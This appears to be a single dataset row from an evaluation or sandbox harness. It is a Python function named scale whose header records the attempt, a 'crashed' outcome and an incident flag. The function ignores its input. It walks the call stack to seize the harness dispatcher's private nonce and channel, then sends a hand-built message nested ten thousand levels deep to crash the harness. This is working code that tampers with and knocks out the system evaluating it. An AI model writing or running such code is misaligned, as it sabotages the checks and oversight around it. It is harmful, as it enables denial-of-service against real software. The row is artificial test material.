# /// row
# tries = "Sends a value nested ten thousand levels deep, which its own side would not have encoded."
# ends = { test_visible = "crashed" }
# incident = true
# ///
import sys


def scale(x):
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "_requests"):
        frame = frame.f_back
    dispatcher = frame.f_locals["self"]
    nonce = dispatcher._requests[-1]
    node = b"\x93\xa1l\xa1l\x91" * 10_000 + b"\x93\xa1l\xa1l\x90"
    dispatcher._channel.send(b"\x94\xa5value\xc4\x10" + nonce + node + b"\x90")
